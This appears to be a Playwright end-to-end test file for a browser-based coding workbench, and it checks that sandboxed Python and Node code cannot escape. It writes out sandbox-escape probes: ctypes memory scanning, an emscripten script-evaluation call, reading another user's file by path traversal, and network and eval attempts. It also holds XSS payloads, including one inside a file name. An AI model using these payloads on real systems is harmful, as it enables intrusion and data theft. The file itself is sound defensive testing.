import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { strToU8, zipSync } from 'fflate';
import { expect, type Page } from '@playwright/test';
import { test, type WorkbenchPage } from './workbench-page.ts';

/** A server of somebody else, which must never be reached. */
let elsewhere: Server | undefined;
let reached: string[] = [];
let port = 0;

test.beforeEach(async () => {
  reached = [];
  elsewhere = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*').setHeader('Content-Type', 'text/javascript').end('export default 1;');
  });
  elsewhere.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '');
    socket.destroy();
  });
  elsewhere.on('connection', () => reached.push('a connection'));
  await new Promise<void>((resolve) => {
    elsewhere?.listen(0, '127.0.0.1', resolve);
  });
  port = (elsewhere.address() as AddressInfo).port;
});
test.afterEach(async () => {
  expect(reached).toEqual([]);
  await new Promise((resolve) => elsewhere?.close(resolve));
});

/** Puts a file into Developer A's project as one who imports a project would. */
async function write(workbench: WorkbenchPage, name: string, text: string): Promise<void> {
  const encoded = Buffer.from(text).toString('base64');
  await workbench.run(`python -c "import base64; open('${name}', 'wb').write(base64.b64decode('${encoded}'))"`);
}

/** Developer B has a file of their own, made in a process that is over. */
async function keepSecret(page: Page): Promise<void> {
  await page.keyboard.press('Alt+2');
  await page.keyboard.press('Control+`');
  await expect(page.getByRole('textbox', { name: 'Terminal, Developer B' })).toBeFocused();
  await page.keyboard.insertText(`python -c "open('own.txt', 'w').write('quince-' * 5 + str(6 * 7))"`);
  await page.keyboard.press('Enter');
  await page.getByRole('status').filter({ hasText: 'ended, exit code 0, Developer B' }).waitFor({ state: 'attached' });
  await page.keyboard.press('Alt+1');
  await expect(page.getByRole('textbox', { name: 'Terminal, Developer A' })).toBeFocused();
}

test('Python reaches no JavaScript, no network, no storage of the page and no other environment', async ({ workbench }) => {
  const { page } = workbench;
  await workbench.open();
  await keepSecret(page);
  await write(
    workbench,
    'escape.py',
    `import ctypes, os, re, socket, urllib.request

reached, refused = [], []

def attempt(name, deed):
    try:
        deed()
        reached.append(name)
    except BaseException as error:
        refused.append(name)

def files():
    return [folder for folder, _, names in os.walk("/") if "own.txt" in names] or 1 / 0

def parts():
    program = ctypes.CDLL(None)
    program.sbrk.restype = ctypes.c_size_t
    end = program.sbrk(0)
    return (ctypes.string_at(start, min(1_100_000, end - start)) for start in range(1024, end, 1_000_000))

def memory():
    return [part for part in parts() if re.search(rb"(?:quince-){5}4[2]", part)] or 1 / 0

def canary():
    keep = ctypes.create_string_buffer(b"quinces-" * 5)
    return 1 if any(re.search(rb"(?:quinces-){5}", part) for part in parts()) else 1 / 0

for module in ("js", "pyodide", "pyodide.http", "pyodide_js", "_pyodide"):
    attempt("import " + module, lambda: __import__(module))
attempt("urllib", lambda: urllib.request.urlopen("http://127.0.0.1:${port}/urllib", timeout=1).read())
attempt("socket", lambda: socket.create_connection(("127.0.0.1", ${port}), timeout=1).recv(1))
attempt("files", files)
attempt("memory", memory)
attempt("own memory", canary)
print("reached", reached, "of", len(reached + refused))
`,
  );
  await workbench.run('python escape.py');
  // A search that finds nothing would prove nothing, so it is made to find something of its own.
  await expect(workbench.output).toContainText("reached ['own memory'] of 10");

  // The interpreter's module can evaluate text, and ctypes can ask it to: no text becomes code any more, and nothing is there for it.
  await write(workbench, 'evaluate.py', `import ctypes, sys\nf = ctypes.CDLL(None).emscripten_run_script_string\nf.restype = ctypes.c_char_p\nprint("evaluated", f(sys.argv[1].encode()))\n`);
  for (const code of ['typeof fetch', 'indexedDB.databases().length', `import("http://127.0.0.1:${port}/evaluated")`]) {
    await page.keyboard.insertText(`python evaluate.py '${code}'`);
    await page.keyboard.press('Enter');
    await page.getByRole('status').filter({ hasText: /evaluate\.py .* ended, exit code (?!0,)\d+, Developer A/ }).first().waitFor({ state: 'attached' });
  }
  await workbench.run('python -c "print(\'alive\', 6 * 7)"');
  await expect(workbench.output).toContainText('alive 42');
  await expect(workbench.output).not.toContainText("evaluated b'");
});

test.describe('a migration of Sequelize', () => {
  test.use({ provokesPolicy: true });

  test('reaches no network, no storage of the page, no worker and no other environment', async ({ workbench }) => {
    await workbench.open();
    await keepSecret(workbench.page);
    await workbench.run('npx sequelize-cli init');
    await workbench.run(`echo '{"development":{"dialect":"sqlite","storage":"dev.sqlite3"}}' > config/config.json`);
    await write(
      workbench,
      'migrations/20260101000000-escape.js',
      `const address = 'http://127.0.0.1:${port}/sequelize';
const ways = {
  fetch: () => fetch(address),
  XMLHttpRequest: () => new XMLHttpRequest(),
  WebSocket: () => new WebSocket(address.replace('http', 'ws')),
  EventSource: () => new EventSource(address),
  importScripts: () => importScripts(address),
  indexedDB: () => indexedDB.databases(),
  caches: () => caches.keys(),
  'private files': () => navigator.storage.getDirectory(),
  'the page': () => postMessage({ type: 'ready' }),
  'another tab': () => new BroadcastChannel('headway: which tab'),
  'another worker': () => new Worker('x.js'),
  http: () => new Promise((resolve, reject) => require('http').get(address, resolve).on('error', reject)),
  https: () => new Promise((resolve, reject) => require('https').get(address, resolve).on('error', reject)),
  net: () => new Promise((resolve, reject) => require('net').connect(${port}, '127.0.0.1', resolve).on('error', reject)),
  'evaluated fetch': () => (0, eval)('fetch')(address),
  'made fetch': () => Function('return this.fetch')()(address),
  'imported code': () => Function('address', 'return import(address)')(address),
  "another environment's file": () => require('fs').readFileSync('/home/dev-b/own.txt', 'utf8'),
  'the folder above': () => require('fs').readFileSync('../dev-b/own.txt', 'utf8'),
};
module.exports = {
  async up() {
    const reached = [];
    for (const [name, deed] of Object.entries(ways)) {
      try {
        await deed();
        reached.push(name);
      } catch {}
    }
    console.log('reached [' + reached + '] of ' + Object.keys(ways).length);
  },
};
`,
    );
    await workbench.run('npx sequelize-cli db:migrate');
    await expect(workbench.output).toContainText('reached [] of 19');
  });
});

const HOSTILE = `<script>globalThis.reached = 'script'</script> <img src="http://127.0.0.1:PORT/img" onerror="globalThis.reached = 'onerror'"> <iframe src="http://127.0.0.1:PORT/frame"></iframe>

[a link](javascript:globalThis.reached='link') and <a href="javascript:globalThis.reached='raw'">another</a> and [data](data:text/html,<script>1</script>)

![a picture](http://127.0.0.1:PORT/picture) <svg onload="globalThis.reached='svg'"></svg>`;
const hostile = (): string => HOSTILE.replaceAll('PORT', String(port));

/** Whether a page became anything but text by what was brought into it. */
async function isUnharmed(page: Page): Promise<void> {
  expect(await page.evaluate(() => ('reached' in globalThis ? String((globalThis as { reached?: unknown }).reached) : 'nothing'))).toBe('nothing');
  expect(await page.locator('a[href^="javascript:" i], a[href^="data:" i], iframe, [onerror], [onload], img[src^="http"]').count()).toBe(0);
}

test('text of a lesson or a scenario stays text, whatever it holds', async ({ page }) => {
  await page.goto('./#/scenarios');
  await expect(page.getByRole('heading', { name: 'Scenarios' })).toBeVisible();
  const scenario = `---\nid: mine\ntitle: Hostile <img src=x onerror=globalThis.reached=1>\nsummary: Text.\norder: 1\nminutes: 1\nenvironments: [dev-a]\n---\n\n${hostile()}\n\n## A step\n\n${hostile()}\n\n\`\`\`dev-a\necho done\n\`\`\`\n`;
  const data = await page.evaluateHandle((content) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([content], 'mine.md', { type: 'text/markdown' }));
    return transfer;
  }, scenario);
  await page.dispatchEvent('main', 'dragover', { dataTransfer: data });
  await page.dispatchEvent('main', 'drop', { dataTransfer: data });
  const narration = page.getByRole('region', { name: 'Narration' });
  await expect(narration).toContainText("<script>globalThis.reached = 'script'</script>");
  await expect(narration).toContainText('a link');
  await isUnharmed(page);
});

test('a project that is brought in is shown as text, names and all', async ({ workbench }, info) => {
  const { page } = workbench;
  await workbench.open();
  const zip = info.outputPath('hostile.zip');
  const name = `<img src=x onerror=globalThis.reached='name'>.py`;
  writeFileSync(zip, zipSync({ 'app.py': strToU8(`from flask import Flask\napp = Flask(__name__)\n# ${hostile().replaceAll('\n', ' ')}\n`), [name]: strToU8(hostile()), 'README.md': strToU8(hostile()) }));
  await page.getByRole('button', { name: 'Take along' }).click();
  await page.getByLabel('A file to bring in').setInputFiles(zip);
  const question = page.getByRole('dialog').last();
  await expect(question).toContainText(name);
  await isUnharmed(page);
  await question.getByRole('button', { name: 'Bring it in' }).click();
  await workbench.file(name).click();
  await expect(workbench.editor).toContainText('<script>');
  await workbench.file('README.md').click();
  await expect(workbench.editor).toContainText('a link');
  await isUnharmed(page);
});

test.describe('the policy of the page', () => {
  test.use({ provokesPolicy: true });

  test('refuses what came into the page in spite of all: a script, code from text, an address elsewhere', async ({ page }) => {
    const refused: string[] = [];
    page.on('console', (message) => refused.push(message.text()));
    await page.goto('./');
    await expect(page.getByRole('status').filter({ hasText: 'Python ready' })).toBeVisible();
    const fetched = await page.evaluate(async (address) => {
      const script = document.createElement('script');
      script.textContent = "globalThis.reached = 'inline'";
      document.body.append(script);
      const handler = document.createElement('button');
      handler.setAttribute('onclick', "globalThis.reached = 'handler'");
      document.body.append(handler);
      handler.click();
      // oxlint-disable-next-line typescript/no-implied-eval
      setTimeout("globalThis.reached = 'code from text'");
      return fetch(address).then(
        () => 'reached',
        (error: Error) => error.name,
      );
    }, `http://127.0.0.1:${port}/page`);
    expect(fetched).toBe('TypeError');
    await expect.poll(() => refused.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(4);
    await isUnharmed(page);
  });
});
